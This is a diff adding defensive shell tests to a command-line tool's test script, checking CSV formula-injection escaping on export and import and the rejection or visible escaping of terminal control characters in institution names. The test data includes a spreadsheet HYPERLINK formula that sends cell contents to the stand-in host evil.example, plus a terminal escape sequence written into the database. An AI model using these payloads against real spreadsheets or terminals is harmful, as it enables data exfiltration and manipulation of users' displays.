@@ -351,6 +351,42 @@ run 0 --help
 out_has "Exit codes:"
 out_has "--errors_csv"
 
+# --- Text that would attack a spreadsheet or a terminal ---------------------------------------
+# A formula in a name is stored as written, exported with an apostrophe in front (OWASP CSV
+# injection) and read back as written by an import.
+formula='=HYPERLINK("http://evil.example/?"&A1,"x")'
+$py -c 'import json,sys; print(json.dumps({"display_name": sys.argv[1], "kind": "KIND_HOSPITAL", "country": "FR"}))' "$formula" >"$work/formula.json"
+run 0 create institution "$work/formula.json" formula
+run 0 export institutions --output="$work/formula-export.csv"
+$py - "$work/formula-export.csv" "$formula" <<'PY' >"$work/formula-import.csv" || fail "the formula was exported as it would run"
+import csv, sys
+table = list(csv.reader(open(sys.argv[1], encoding="utf-8")))
+row = [r for r in table[1:] if r[0] == "formula"][0]
+assert row[1] == "'" + sys.argv[2], row[1]
+for r in table[1:]:
+    for cell in r:
+        assert not cell or cell[0] not in "=+-@\t\r", cell
+row[0] = "formula-copy"
+row[table[0].index("country")] = "DE"  # one name per country: the copy goes elsewhere
+w = csv.writer(sys.stdout, lineterminator="\n")
+w.writerow(table[0]); w.writerow(row)
+PY
+run 0 import institutions "$work/formula-import.csv"
+run 0 get institution formula-copy
+$py -c 'import json,sys; got=json.load(open(sys.argv[1]))["display_name"]; assert got == sys.argv[2], got' "$work/out" "$formula" || fail "the import did not read back the formula as written"
+# Control characters are refused with the field named...
+printf '{"display_name": "Red \\u001b[31mhospital", "kind": "KIND_HOSPITAL", "country": "FR"}' >"$work/escape.json"
+run 4 create institution "$work/escape.json" escape
+err_has "institution.display_name: control character U+001B"
+# ...and a name stored before they were (written into the database here) reaches a terminal as
+# visible escapes, never as the sequence itself.
+mariadb --no-defaults --socket="$IMP_TEST_DB_SOCKET" -u"$(id -un)" "reg_$suffix" \
+  -e "UPDATE institutions SET display_name = CONCAT('Old ', CHAR(27), '[2J', CHAR(27), ']0;owned', CHAR(7)) WHERE id = 'formula'" \
+  || fail "could not write the old name"
+run 0 list institutions --filter='country = "FR"'
+if grep -q $'\x1b\|\x07' "$work/out"; then fail "impctl list wrote control characters to the terminal"; fi
+out_has 'Old \x1B[2J\x1B]0;owned\x07'
+
 # --- A file larger than one stream message (1,000 rows each) ----------------------------------
 $py - "$demo/activities.csv" "$work/bulk.csv" <<'PY'
 import csv, sys
